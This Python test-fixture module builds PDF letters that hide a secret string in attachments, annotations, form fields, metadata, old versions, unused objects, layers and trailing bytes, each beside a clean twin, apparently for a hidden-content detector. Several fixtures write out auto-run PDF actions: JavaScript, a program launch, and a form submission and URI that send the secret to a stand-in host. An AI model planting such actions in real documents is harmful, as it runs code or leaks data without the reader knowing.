"""PDF letters that carry a secret beside the text of their pages, each with its innocent twin."""

import io
from collections.abc import Callable
from typing import NamedTuple

import pypdf
from pypdf.annotations import Highlight, Text
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)
from reportlab.pdfgen.canvas import Canvas

from checker.model import TraceKind
from tests.builders.pdf_files import (
    SECRET,
    Draw,
    at,
    changed,
    letter,
    letter_pdf,
    pdf,
    with_objects,
)

HARMLESS = "Dear Ms Brennan,"
"""Words that the page of every letter shows."""
_HELVETICA = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


class Carried(NamedTuple):
    """A file that carries the secret, how that is to be told, and a twin that does not."""

    data: Callable[[], bytes]
    twin: Callable[[], bytes]
    kind: TraceKind
    name: str


def _stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<< " + entries + b" >>\nstream\n" + content + b"\nendstream"


def _objects(objects: list[str], *, page: str = "", root: str = "") -> Callable[[], bytes]:
    parts = [one.encode("cp1252") for one in objects]
    entries = {"page_entry": page.encode(), "root_entry": root.encode()}
    return lambda: with_objects(letter_pdf(), parts, **entries)


def with_content(content: str, *, resources: str = "", **entries: bytes) -> bytes:
    """Give a letter whose page draws something more."""
    plain = pdf(letter)
    drawn = pypdf.PdfReader(io.BytesIO(plain)).pages[0].get_contents()
    assert drawn is not None
    stream = _stream(drawn.get_data() + b"\n" + content.encode())
    fonts = b"/Resources << /Font << /F1 " + _HELVETICA + b" >> " + resources.encode() + b" >>"
    return with_objects(plain, [stream], page_entry=b"/Contents NEW:1 " + fonts, **entries)


def attached(name: str, content: bytes, description: str = "") -> bytes:
    """Give a letter with another file attached to it."""

    def attach(writer: pypdf.PdfWriter) -> None:
        writer.add_attachment(name, content)
        if description:
            names = writer._root_object["/Names"]["/EmbeddedFiles"]["/Names"]  # type: ignore[index]
            names[1].get_object()[NameObject("/Desc")] = TextStringObject(description)

    return changed(letter_pdf(), attach)


_FILE = _stream(SECRET.encode(), b"/Type /EmbeddedFile").decode()
_SPEC = "<< /Type /Filespec /F (notes.txt) /UF (notes.txt) /EF << /F NEW:1 >> >>"


def pinned() -> bytes:
    """Give a letter with a file pinned to its page."""
    pin = "<< /Type /Annot /Subtype /FileAttachment /Rect [50 50 70 70] /FS NEW:2 >>"
    return _objects([_FILE, _SPEC, pin], page="/Annots [NEW:3]")()


def associated() -> bytes:
    """Give a letter with an associated file."""
    return _objects([_FILE, _SPEC], root="/AF [NEW:2]")()


def portfolio() -> bytes:
    """Give a folder of files."""
    root = "/Collection << /View /D >> /Names << /EmbeddedFiles << /Names [(a) NEW:2] >> >>"
    return _objects([_FILE, _SPEC], root=root)()


def note(text: str, rich: str = "") -> bytes:
    """Give a letter with a sticky note on it."""
    sticker = Text(rect=(50, 550, 200, 650), text=text)
    if rich:
        sticker[NameObject("/RC")] = TextStringObject(rich)
    return changed(letter_pdf(), lambda writer: writer.add_annotation(0, sticker))


def stamped(words: str, *, flags: int = 4) -> bytes:
    """Give a letter with a stamp that draws words."""
    drawn = f"BT /F1 12 Tf 2 4 Td ({words}) Tj ET"
    form = (
        "/Type /XObject /Subtype /Form /BBox [0 0 250 20] /Resources << /Font << /F1 "
        + _HELVETICA.decode()
        + " >> >>"
    )
    stamp = (
        f"<< /Type /Annot /Subtype /Stamp /F {flags} /Rect [70 300 320 320] /AP << /N NEW:1 >> >>"
    )
    objects = [_stream(drawn.encode(), form.encode()).decode(), stamp]
    return _objects(objects, page="/Annots [NEW:2]")()


def _marked(author: str) -> bytes:
    quads = ArrayObject(FloatObject(number) for number in (50, 650, 200, 650, 50, 640, 200, 640))
    mark = Highlight(rect=(50, 640, 200, 650), quad_points=quads)
    if author:
        mark[NameObject("/T")] = TextStringObject(author)
    return changed(letter_pdf(), lambda writer: writer.add_annotation(0, mark))


def field(value: str, *, hidden: bool = False, said: str = "") -> bytes:
    """Give a letter with a form field; `said` takes the place of its value but not of its look."""

    def draw(canvas: Canvas) -> None:
        letter(canvas)
        canvas.acroForm.textfield(name="who", value=value, x=70, y=400, width=200, height=20)

    def change(writer: pypdf.PdfWriter) -> None:
        one = writer.pages[0]["/Annots"][0].get_object()  # type: ignore[index]  # an array
        if hidden:
            one[NameObject("/F")] = NumberObject(2)
        if said:
            one[NameObject("/V")] = TextStringObject(said)

    return changed(pdf(draw), change)


def _loose_field(value: str) -> Callable[[], bytes]:
    return _objects(
        [f"<< /FT /Tx /T (who) /V ({value}) >>"], root="/AcroForm << /Fields [NEW:1] >>"
    )


def described(**properties: str) -> bytes:
    """Give a letter with properties."""
    entries = {f"/{name}": value for name, value in properties.items()}
    return changed(letter_pdf(), lambda writer: writer.add_metadata(entries))


def _packet(value: str) -> Callable[[], bytes]:
    packet = (
        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
        'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
        'xmlns:xmpMM="http://ns.adobe.com/xap/1.0/mm/" '
        'xmlns:stEvt="http://ns.adobe.com/xap/1.0/sType/ResourceEvent#"><xmpMM:History><rdf:Seq>'
        f'<rdf:li stEvt:action="saved" stEvt:softwareAgent="{value}"/></rdf:Seq></xmpMM:History>'
        "</rdf:Description></rdf:RDF></x:xmpmeta>"
    )
    stream = _stream(packet.encode(), b"/Type /Metadata /Subtype /XML").decode()
    return _objects([stream], root="/Metadata NEW:1")


def updated(*pages: Draw) -> bytes:
    """Give a file whose page was drawn anew, each time saved on top of what was there."""
    data = pdf(pages[0])
    for draw in pages[1:]:
        newer = pypdf.PdfReader(io.BytesIO(pdf(draw)))
        content = newer.pages[0].get_contents()
        assert content is not None
        writer = pypdf.PdfWriter(io.BytesIO(data), incremental=True)
        stream = StreamObject()
        stream.set_data(content.get_data())
        writer.pages[0][NameObject("/Contents")] = writer._add_object(stream)
        out = io.BytesIO()
        writer.write(out)
        data = out.getvalue()
    return data


def _with_secret(canvas: Canvas) -> None:
    letter(canvas)
    at(canvas, 25, 150, SECRET)


def _with_more(canvas: Canvas) -> None:
    letter(canvas)
    at(canvas, 25, 160, "Signed by Priya Nair")


def _left_page(*, left: bool) -> bytes:
    writer = pypdf.PdfWriter()
    for draw in (letter, _with_secret) if left else (letter,):
        writer.add_page(pypdf.PdfReader(io.BytesIO(pdf(draw))).pages[0])
    if left:
        kids = writer._pages.get_object()
        assert isinstance(kids, DictionaryObject)
        kids["/Kids"].pop()  # type: ignore[attr-defined]  # the page stays behind in the file
        kids[NameObject("/Count")] = NumberObject(1)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


_PATTERN = (
    "/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 "
    "/BBox [0 0 595 842] /XStep 595 /YStep 842"
)
_TEMPLATE = (
    "<< /Type /Page /MediaBox [0 0 595 842] /Contents NEW:1 "
    f"/Resources << /Font << /F1 {_HELVETICA.decode()} >> >> >>"
)


def _drawing(text: str, entries: str = "") -> str:
    return _stream(f"BT /F1 11 Tf 70 300 Td ({text}) Tj ET".encode(), entries.encode()).decode()


def _spare(kind: str, text: str, entries: str) -> bytes:
    fonts = f"/Font << /F1 {_HELVETICA.decode()} >>"
    own = f"{entries} /Resources << {fonts} >>"
    page = f"/Resources << {fonts} /{kind} << /P NEW:1 >> >>"
    return _objects([_drawing(text, own)], page=page)()


def _structure(key: str, text: str) -> Callable[[], bytes]:
    tree = f"<< /Type /StructTreeRoot /K << /S /Figure /{key} ({text}) >> >>"
    return _objects([tree], root="/StructTreeRoot NEW:1")


def _span(text: str) -> bytes:
    return with_content(
        f"/Span << /ActualText ({text}) >> BDC BT /F1 11 Tf 70 300 Td (visible words) Tj ET EMC"
    )


def _layered(*, off: str) -> bytes:
    content = f"/OC /L BDC BT /F1 11 Tf 70.9 416.7 Td ({SECRET}) Tj ET EMC"
    plain = with_content(content)
    group = b"<< /Type /OCG /Name (Draft) /Usage << /Print << /PrintState /OFF >> >> >>"
    properties = b"/Resources << /Font << /F1 " + _HELVETICA + b" >> /Properties << /L NEW:1 >> >>"
    root = f"/OCProperties << /OCGs [NEW:1] /D << {off} >> >>"
    return with_objects(plain, [group], page_entry=properties, root_entry=root.encode())


def _bookmarked(title: str) -> bytes:
    return changed(letter_pdf(), lambda writer: writer.add_outline_item(title=title, page_number=0))


def _script(kind: str) -> Callable[[], bytes]:
    return _objects([], root=f"/OpenAction << {kind} >>")


_NOTHING: Callable[[], bytes] = letter_pdf

CARRIED: dict[str, Carried] = {
    "attached file": Carried(
        lambda: attached(f"{SECRET}.txt", b"x"), _NOTHING, TraceKind.EMBEDDED, "attached file"
    ),
    "attached file's description": Carried(
        lambda: attached("a.txt", b"x", SECRET), _NOTHING, TraceKind.EMBEDDED, "attached file"
    ),
    "sticky note": Carried(lambda: note(SECRET), _NOTHING, TraceKind.COMMENT, "text"),
    "note's rich text": Carried(
        lambda: note("See", f"<body><p>{SECRET}</p></body>"),
        _NOTHING,
        TraceKind.COMMENT,
        "text",
    ),
    "hidden form field": Carried(
        lambda: field(SECRET, hidden=True), lambda: field(SECRET), TraceKind.HIDDEN_TEXT, "hidden"
    ),
    "field that looks otherwise": Carried(
        lambda: field("Erin Hale", said=SECRET),
        lambda: field(SECRET, said=SECRET),
        TraceKind.HIDDEN_TEXT,
        "hidden",
    ),
    "field on no page": Carried(
        _loose_field(SECRET), _loose_field(""), TraceKind.HIDDEN_TEXT, "hidden"
    ),
    "property": Carried(
        lambda: described(Keywords=SECRET), _NOTHING, TraceKind.METADATA, "keywords"
    ),
    "history of the file": Carried(
        _packet(SECRET), _packet(""), TraceKind.METADATA, "softwareagent"
    ),
    "earlier version": Carried(
        lambda: updated(_with_secret, letter),
        lambda: updated(letter, _with_more),
        TraceKind.REDACTION,
        "earlier version",
    ),
    "version before the last": Carried(
        lambda: updated(letter, _with_secret, letter),
        lambda: updated(letter, letter, _with_more),
        TraceKind.REDACTION,
        "earlier version",
    ),
    "page taken out": Carried(
        lambda: _left_page(left=True),
        lambda: _left_page(left=False),
        TraceKind.HIDDEN_TEXT,
        "unused",
    ),
    "text of no page": Carried(
        _objects([_drawing(SECRET)]),
        _objects([_stream(b"0 0 10 10 re f").decode()]),
        TraceKind.HIDDEN_TEXT,
        "unused",
    ),
    "template that is no page": Carried(
        _objects(
            [_drawing(SECRET), _TEMPLATE],
            root="/Names << /Templates << /Names [(a) NEW:2] >> >>",
        ),
        _objects(
            ["<< /Type /Page /MediaBox [0 0 595 842] >>"],
            root="/Names << /Templates << /Names [(a) NEW:1] >> >>",
        ),
        TraceKind.HIDDEN_TEXT,
        "unused",
    ),
    "drawing that is not used": Carried(
        lambda: _spare("XObject", SECRET, "/Type /XObject /Subtype /Form /BBox [0 0 595 842]"),
        lambda: _spare("XObject", HARMLESS, "/Type /XObject /Subtype /Form /BBox [0 0 595 842]"),
        TraceKind.HIDDEN_TEXT,
        "unused",
    ),
    "pattern with words": Carried(
        lambda: _spare("Pattern", SECRET, _PATTERN),
        lambda: _spare("Pattern", HARMLESS, _PATTERN),
        TraceKind.HIDDEN_TEXT,
        "unused",
    ),
    "script": Carried(
        _script(f"/S /JavaScript /JS (app.alert\\('{SECRET}'\\))"),
        _script("/S /GoTo /D [0 /Fit]"),
        TraceKind.ACTIVE,
        "script",
    ),
    "program": Carried(
        _script(f"/S /Launch /F ({SECRET}.exe)"),
        _script("/S /Named /N /LastPage"),
        TraceKind.ACTIVE,
        "launch action",
    ),
    "form sent away": Carried(
        _script(f"/S /SubmitForm /F << /FS /URL /F (https://a.example/{SECRET}) >>"),
        _NOTHING,
        TraceKind.ACTIVE,
        "form that sends itself",
    ),
    "data taken in": Carried(
        _script(f"/S /ImportData /F ({SECRET}.fdf)"),
        _NOTHING,
        TraceKind.ACTIVE,
        "import of data",
    ),
    "address opened by itself": Carried(
        _script(f"/S /URI /URI (https://a.example/{SECRET})"),
        _objects(
            [
                f"<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://{SECRET}) >> >>",
            ],
            page="/Annots [NEW:1]",
        ),
        TraceKind.ACTIVE,
        "address that is opened by itself",
    ),
    "bookmark": Carried(
        lambda: _bookmarked(SECRET),
        lambda: _bookmarked(HARMLESS),
        TraceKind.HIDDEN_TEXT,
        "hidden",
    ),
    "name of a place": Carried(
        lambda: changed(letter_pdf(), lambda writer: writer.add_named_destination(SECRET, 0)),
        lambda: changed(letter_pdf(), lambda writer: writer.add_named_destination("section.1", 0)),
        TraceKind.HIDDEN_TEXT,
        "hidden",
    ),
    "article": Carried(
        _objects([f"<< /I << /Title ({SECRET}) >> >>"], root="/Threads [NEW:1]"),
        _objects(["<< /I << >> >>"], root="/Threads [NEW:1]"),
        TraceKind.METADATA,
        "article title",
    ),
    "words for a piece of text": Carried(
        lambda: _span(SECRET),
        lambda: _span("visible words"),
        TraceKind.HIDDEN_TEXT,
        "alternative-text",
    ),
    "words for an element": Carried(
        _structure("ActualText", SECRET),
        _structure("ActualText", HARMLESS),
        TraceKind.HIDDEN_TEXT,
        "alternative-text",
    ),
    "description of a picture": Carried(
        _structure("Alt", SECRET),
        _structure("Alt", ""),
        TraceKind.HIDDEN_TEXT,
        "alternative-text",
    ),
    "meaning of an abbreviation": Carried(
        _structure("E", SECRET), _structure("E", ""), TraceKind.HIDDEN_TEXT, "alternative-text"
    ),
    "data of a program": Carried(
        _objects(
            [],
            root=f"/PieceInfo << /Word << /LastModified (D:2026) /Private ({SECRET}) >> >>",
        ),
        _objects([], root="/PieceInfo << /Word << /LastModified (D:2026) >> >>"),
        TraceKind.METADATA,
        "private data",
    ),
    "layer switched off": Carried(
        lambda: _layered(off="/OFF [NEW:1]"),
        lambda: _layered(off="/ON [NEW:1]"),
        TraceKind.HIDDEN_TEXT,
        "hidden-layer",
    ),
    "layers switched off unless named": Carried(
        lambda: _layered(off="/BaseState /OFF"),
        lambda: _layered(off="/BaseState /OFF /ON [NEW:1]"),
        TraceKind.HIDDEN_TEXT,
        "hidden-layer",
    ),
    "layer for the screen alone": Carried(
        lambda: _layered(off="/AS [<< /Event /Print /Category [/Print] /OCGs [NEW:1] >>]"),
        lambda: _layered(off="/AS [<< /Event /View /Category [/View] /OCGs [NEW:1] >>]"),
        TraceKind.HIDDEN_TEXT,
        "hidden-layer",
    ),
    "words behind the end": Carried(
        lambda: letter_pdf() + f"{SECRET} is where she lives".encode(),
        lambda: letter_pdf() + b"\r\n\0\0\0",
        TraceKind.EMBEDDED,
        "data outside the file",
    ),
    "redaction that was marked and not made": Carried(
        _objects(
            ["<< /Type /Annot /Subtype /Redact /Rect [60 696 300 708] >>"],
            page="/Annots [NEW:1]",
        ),
        _NOTHING,
        TraceKind.REDACTION,
        "marked to be blacked out",
    ),
}
